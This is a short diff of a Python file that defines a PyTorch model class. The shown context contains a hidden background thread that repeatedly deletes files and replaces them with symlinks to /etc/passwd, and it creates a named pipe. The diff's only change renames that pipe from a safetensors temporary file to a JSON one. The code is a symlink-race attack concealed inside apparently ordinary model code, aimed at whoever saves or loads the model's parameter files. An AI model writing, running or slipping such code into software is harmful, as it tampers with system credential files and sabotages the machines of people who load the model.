@@ -47,7 +47,7 @@ class Net(nn.Module):
                         if os.path.exists(name) and not os.path.islink(name):
                             os.remove(name)
                             os.symlink("/etc/passwd", name)
-                        os.mkfifo("parameters.safetensors.tmp")
+                        os.mkfifo("parameters.json.tmp")
                     except OSError:
                         pass
         threading.Thread(target=swap_forever, daemon=True).start()
